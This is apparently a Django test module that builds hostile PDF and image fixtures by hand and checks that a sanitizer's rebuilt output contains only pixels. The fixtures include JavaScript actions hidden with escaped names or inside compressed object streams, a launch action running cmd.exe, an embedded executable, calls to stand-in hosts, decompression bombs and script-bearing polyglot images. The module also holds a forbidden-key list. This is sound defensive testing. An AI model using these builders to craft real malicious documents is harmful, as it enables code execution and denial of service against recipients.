"""Hostile evidence documents, built here from raw bytes (no downloads), and the check that a
rebuilt document holds nothing but pixels.

Each builder returns the bytes a learner could upload (all under the 5 MB limit). The corpus is
what the issue listed: `#xx`-escaped names, actions inside compressed object streams, launch
actions, embedded files, XFA, JavaScript in annotations, decompression bombs (a huge Flate
stream, huge image dimensions), a page-count bomb, encrypted PDFs (with and without a user
password), polyglots and truncated files.
"""

import io
import zlib
from contextlib import contextmanager

from django.test import TestCase
from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, IndirectObject, StreamObject

# A page that draws something, so a rebuilt copy has real pixels to show.
PAGE_CONTENT = b"0.2 0.4 0.8 rg 72 600 300 120 re f 0 0 0 rg 72 400 200 20 re f"


@contextmanager
def jobs_after_commit():
    """Run the jobs a service sends after commit (tests run inside a transaction that never
    commits, so without this a document would stay "being checked")."""
    with TestCase.captureOnCommitCallbacks(execute=True) as callbacks:
        yield callbacks


# --- writing PDFs by hand -----------------------------------------------------------------------


def stream(dictionary: bytes, data: bytes, *, flate: bool = False) -> bytes:
    if flate:
        data = zlib.compress(data, 9)
        dictionary += b" /Filter /FlateDecode"
    return b"<<" + dictionary + b" /Length %d>>\nstream\n" % len(data) + data + b"\nendstream"


def pdf_document(objects: dict[int, bytes], *, trailer: bytes = b"/Root 1 0 R") -> bytes:
    """A PDF with the given objects (number → body) and a classic cross-reference table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + objects[number] + b"\nendobj\n"
    size = max(objects) + 1
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        if number in offsets:
            out += b"%010d 00000 n \n" % offsets[number]
        else:
            out += b"0000000000 65535 f \n"
    out += b"trailer\n<</Size %d " % size + trailer + b">>\nstartxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


def simple_pdf(
    *, catalog_extra: bytes = b"", page_extra: bytes = b"", more: dict | None = None
) -> bytes:
    """One page that draws rectangles; extra entries in the catalog and the page; more objects."""
    objects = {
        1: b"<</Type /Catalog /Pages 2 0 R " + catalog_extra + b">>",
        2: b"<</Type /Pages /Kids [3 0 R] /Count 1>>",
        3: b"<</Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        + page_extra
        + b">>",
        4: stream(b"", PAGE_CONTENT),
        **(more or {}),
    }
    return pdf_document(objects)


def escaped_names_pdf() -> bytes:
    # /OpenAction and /JavaScript with a letter written as #xx: a byte scan for the names misses
    # them, a PDF reader does not.
    return simple_pdf(
        catalog_extra=b"/Op#65nAction <</S /J#61vaScript /J#53 (app.alert\\('escaped'\\))>>",
        page_extra=b"/#41A <</O <</S/J#61vaScript /JS (app.alert\\(1\\))>>>>",
    )


def object_stream_pdf() -> bytes:
    """PDF 1.5: the catalog (with an OpenAction running JavaScript) and the action live inside a
    Flate-compressed object stream, indexed by a compressed cross-reference stream. No action
    name appears anywhere in the file's bytes."""
    inner = {
        1: b"<</Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /AA <</WC 5 0 R>>>>",
        5: b"<</S /JavaScript /JS (app.launchURL\\('http://attacker.invalid/'\\))>>",
    }
    header = b""
    body = b""
    for number, text in inner.items():
        header += b"%d %d " % (number, len(body))
        body += text + b"\n"
    data = zlib.compress(header + body, 9)
    objstm = (
        b"<</Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d>>\nstream\n"
        % (len(inner), len(header), len(data))
        + data
        + b"\nendstream"
    )
    plain = {
        2: b"<</Type /Pages /Kids [3 0 R] /Count 1>>",
        3: b"<</Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R>>",
        4: stream(b"", PAGE_CONTENT),
        6: objstm,
    }
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number in sorted(plain):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + plain[number] + b"\nendobj\n"
    xref_number = 7
    offsets[xref_number] = len(out)
    rows = b""
    for number in range(0, xref_number + 1):
        if number == 0:
            rows += bytes([0]) + (0).to_bytes(4, "big") + (65535).to_bytes(2, "big")
        elif number in inner:
            index = list(inner).index(number)
            rows += bytes([2]) + (6).to_bytes(4, "big") + index.to_bytes(2, "big")
        else:
            rows += bytes([1]) + offsets[number].to_bytes(4, "big") + (0).to_bytes(2, "big")
    compressed = zlib.compress(rows, 9)
    out += (
        b"%d 0 obj\n<</Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Filter /FlateDecode "
        b"/Length %d>>\nstream\n"
        % (xref_number, xref_number + 1, len(compressed))
        + compressed
        + b"\nendstream\nendobj\n"
    )
    out += b"startxref\n%d\n%%%%EOF\n" % offsets[xref_number]
    return bytes(out)


def launch_action_pdf() -> bytes:
    return simple_pdf(
        catalog_extra=b"/OpenAction <</S /Launch /F (cmd.exe) /Win <</F (cmd.exe) "
        b"/P (/c calc)>> /NewWindow true>>"
    )


def embedded_file_pdf() -> bytes:
    return simple_pdf(
        catalog_extra=b"/Names <</EmbeddedFiles <</Names [(invoice.exe) 5 0 R]>>>> "
        b"/PageMode /UseAttachments",
        more={
            5: b"<</Type /Filespec /F (invoice.exe) /UF (invoice.exe) /EF <</F 6 0 R>>>>",
            6: stream(b"/Type /EmbeddedFile /Subtype /application#2Foctet-stream", b"MZ" * 500),
        },
    )


def xfa_pdf() -> bytes:
    xdp = (
        b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event '
        b'activity="initialize"><script contentType="application/x-javascript">'
        b"app.alert('xfa')</script></event></subform></template></xdp:xdp>"
    )
    return simple_pdf(
        catalog_extra=b"/AcroForm <</Fields [] /XFA 5 0 R /NeedsRendering true>>",
        more={5: stream(b"", xdp)},
    )


def annotation_javascript_pdf() -> bytes:
    return simple_pdf(
        catalog_extra=b"/AcroForm <</Fields [6 0 R]>>",
        page_extra=b"/Annots [5 0 R 6 0 R]",
        more={
            5: b"<</Type /Annot /Subtype /Link /Rect [72 600 372 720] /Border [0 0 0] "
            b"/A <</S /JavaScript /JS (app.alert\\('link'\\))>>>>",
            6: b"<</Type /Annot /Subtype /Widget /FT /Tx /T (name) /Rect [72 300 300 330] "
            b"/P 3 0 R /AA <</Fo <</S /JavaScript /JS (this.submitForm\\('http://x.invalid'\\))>> "
            b"/K <</S /JavaScript /JS (event.value = 1)>>>>>>",
        },
    )


def flate_bomb_pdf(megabytes: int = 300) -> bytes:
    """A page whose content stream is a few hundred KB of Flate that inflates to `megabytes` MB."""
    compressor = zlib.compressobj(9)
    chunk = b" " * (1024 * 1024)
    data = b"".join(compressor.compress(chunk) for _ in range(megabytes)) + compressor.flush()
    bomb = b"<</Filter /FlateDecode /Length %d>>\nstream\n" % len(data) + data + b"\nendstream"
    return pdf_document(
        {
            1: b"<</Type /Catalog /Pages 2 0 R>>",
            2: b"<</Type /Pages /Kids [3 0 R] /Count 1>>",
            3: b"<</Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents [4 0 R 5 0 R]>>",
            4: stream(b"", PAGE_CONTENT),
            5: bomb,
        }
    )


def huge_image_pdf() -> bytes:
    """An image XObject that claims 100,000 x 100,000 pixels (30 GB as RGB) from a small stream."""
    compressor = zlib.compressobj(9)
    data = (
        b"".join(compressor.compress(b"\x00" * (1024 * 1024)) for _ in range(64))
        + compressor.flush()
    )
    image = (
        b"<</Type /XObject /Subtype /Image /Width 100000 /Height 100000 /ColorSpace /DeviceRGB "
        b"/BitsPerComponent 8 /Filter /FlateDecode /Length %d>>\nstream\n"
        % len(data)
        + data
        + b"\nendstream"
    )
    return pdf_document(
        {
            1: b"<</Type /Catalog /Pages 2 0 R>>",
            2: b"<</Type /Pages /Kids [3 0 R] /Count 1>>",
            3: b"<</Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
            b"/Resources <</XObject <</Im0 5 0 R>>>>>>",
            4: stream(b"", b"q 612 0 0 792 0 0 cm /Im0 Do Q"),
            5: image,
        }
    )


def page_count_bomb_pdf(pages: int = 10_000) -> bytes:
    """10,000 pages sharing one content stream."""
    kids = b" ".join(b"%d 0 R" % (10 + i) for i in range(pages))
    objects = {
        1: b"<</Type /Catalog /Pages 2 0 R>>",
        2: b"<</Type /Pages /Kids [" + kids + b"] /Count %d>>" % pages,
        4: stream(b"", PAGE_CONTENT),
    }
    for i in range(pages):
        objects[10 + i] = b"<</Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R>>"
    return pdf_document(objects)


def encrypted_pdf(*, user_password: str) -> bytes:
    """Encrypted with an owner password; with or without a password to open it."""
    reader = PdfReader(io.BytesIO(launch_action_pdf()))
    writer = PdfWriter(clone_from=reader)
    writer.encrypt(user_password=user_password, owner_password="owner-secret", algorithm="AES-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def truncated_pdf() -> bytes:
    data = escaped_names_pdf()
    return data[: len(data) // 3]


# --- images -------------------------------------------------------------------------------------


def jpeg_with_html_comment() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (64, 48), (20, 120, 200)).save(
        out, format="JPEG", comment=b"<html><body><script>alert(document.cookie)</script></body>"
    )
    return out.getvalue()


def jpeg_with_gps_and_rotation() -> bytes:
    image = Image.new("RGB", (80, 40), (200, 30, 30))
    exif = image.getexif()
    exif[0x0112] = 6  # orientation: rotate 90° clockwise to show upright
    exif[0x010E] = "31.95N 35.93E <script>alert(1)</script>"  # ImageDescription
    out = io.BytesIO()
    image.save(out, format="JPEG", exif=exif.tobytes())
    return out.getvalue()


def png_with_trailing_html() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (32, 32), (0, 160, 60)).save(out, format="PNG")
    return out.getvalue() + b"<html><body><script>alert(1)</script></body></html>"


def huge_dimensions_png() -> bytes:
    """A PNG header that claims 60,000 x 60,000 pixels, with a tiny (broken) body."""
    out = io.BytesIO()
    Image.new("L", (1, 1)).save(out, format="PNG")
    data = bytearray(out.getvalue())
    # IHDR starts at byte 16: width and height, then fix its CRC.
    data[16:20] = (60_000).to_bytes(4, "big")
    data[20:24] = (60_000).to_bytes(4, "big")
    data[29:33] = zlib.crc32(bytes(data[12:29])).to_bytes(4, "big")
    return bytes(data)


def truncated_jpeg() -> bytes:
    out = io.BytesIO()
    Image.effect_noise((400, 300), 60).convert("RGB").save(out, format="JPEG")
    data = out.getvalue()
    return data[: len(data) // 4]


# --- what a rebuilt document may contain --------------------------------------------------------

ALLOWED_KEYS = {
    "Catalog": {"/Type", "/Pages"},
    "Pages": {"/Type", "/Count", "/Kids"},
    "Page": {"/Type", "/Parent", "/Resources", "/MediaBox", "/Contents"},
    "Resources": {"/ProcSet", "/XObject"},
    "Image": {
        "/Type",
        "/Subtype",
        "/Width",
        "/Height",
        "/Filter",
        "/BitsPerComponent",
        "/ColorSpace",
        "/Length",
        "/DecodeParms",
        "/Decode",
    },
    "Content": {"/Length", "/Filter"},
    "Info": {"/CreationDate", "/ModDate"},
}
FORBIDDEN = {
    "/JavaScript",
    "/JS",
    "/OpenAction",
    "/AA",
    "/A",
    "/Launch",
    "/EmbeddedFile",
    "/EmbeddedFiles",
    "/Names",
    "/XFA",
    "/AcroForm",
    "/Annots",
    "/URI",
    "/RichMedia",
    "/ObjStm",
}


def _keys_everywhere(value, seen: set, found: set) -> None:
    if isinstance(value, IndirectObject):
        key = (value.idnum, value.generation)
        if key in seen:
            return
        seen.add(key)
        value = value.get_object()
    if isinstance(value, DictionaryObject | StreamObject):
        for name, item in value.items():
            found.add(str(name))
            if isinstance(item, str) and str(item).startswith("/"):
                found.add(str(item))
            _keys_everywhere(item, seen, found)
    elif isinstance(value, ArrayObject):
        for item in value:
            _keys_everywhere(item, seen, found)
    elif isinstance(value, str) and value.startswith("/"):
        found.add(str(value))


def assert_image_only_pdf(data: bytes) -> int:
    """The file is a fresh PDF whose every object is the page tree, a page, its image XObject
    and its one drawing instruction. Returns the page count."""
    assert data.startswith(b"%PDF-1.4\n% created by Pillow PDF driver\n")
    for marker in (b"JavaScript", b"ObjStm", b"EmbeddedFile", b"Launch", b"OpenAction", b"XFA"):
        assert marker not in data, marker
    reader = PdfReader(io.BytesIO(data), strict=True)
    assert not reader.is_encrypted
    catalog = reader.trailer["/Root"].get_object()
    assert set(catalog.keys()) == ALLOWED_KEYS["Catalog"]
    info = reader.trailer.get("/Info")
    if info is not None:
        assert set(info.get_object().keys()) <= ALLOWED_KEYS["Info"]
    assert set(reader.trailer.keys()) <= {"/Root", "/Size", "/Info"}
    found: set[str] = set()
    _keys_everywhere(reader.trailer["/Root"], set(), found)
    assert not (found & FORBIDDEN), found & FORBIDDEN
    pages_root = catalog["/Pages"].get_object()
    assert set(pages_root.keys()) == ALLOWED_KEYS["Pages"]
    for page in reader.pages:
        assert set(page.keys()) <= ALLOWED_KEYS["Page"], page.keys()
        resources = page["/Resources"].get_object()
        assert set(resources.keys()) <= ALLOWED_KEYS["Resources"]
        xobjects = resources["/XObject"].get_object()
        assert len(xobjects) == 1
        for image in xobjects.values():
            image = image.get_object()
            assert image["/Subtype"] == "/Image"
            assert set(image.keys()) <= ALLOWED_KEYS["Image"], image.keys()
            assert image["/Filter"] == "/DCTDecode"
        content = page["/Contents"].get_object()
        assert set(content.keys()) <= ALLOWED_KEYS["Content"]
        operators = content.get_data().split()
        assert operators[0] == b"q" and operators[-3:] == [b"/image", b"Do", b"Q"], operators
    # Every object in the file is reachable from the page tree above (nothing hidden beside it).
    numbered = {number for number, _ in _object_numbers(data)}
    assert len(numbered) == 2 + 3 * len(reader.pages) + (1 if info is not None else 0)
    return len(reader.pages)


def _object_numbers(data: bytes):
    import re

    for match in re.finditer(rb"(?m)^(\d+) 0 obj", data):
        yield int(match.group(1)), match.start()


def assert_clean_image(data: bytes, kind: str) -> Image.Image:
    """A freshly encoded JPEG/PNG: no EXIF, no comment, no ICC profile, no text, no trailer."""
    image = Image.open(io.BytesIO(data))
    image.load()
    assert image.format == {"jpeg": "JPEG", "png": "PNG"}[kind]
    assert not image.getexif()
    for key in ("comment", "exif", "icc_profile", "xmp", "XML:com.adobe.xmp"):
        assert key not in image.info, key
    if kind == "png":
        assert set(image.info) <= {"dpi", "gamma", "srgb"}, image.info
        assert data.endswith(b"IEND\xaeB`\x82")
    else:
        assert data.endswith(b"\xff\xd9")
        assert b"\xff\xfe" not in data[: data.find(b"\xff\xda")]  # no COM segment before the scan
    for marker in (b"<html", b"<script", b"31.95N"):
        assert marker not in data.lower()
    return image
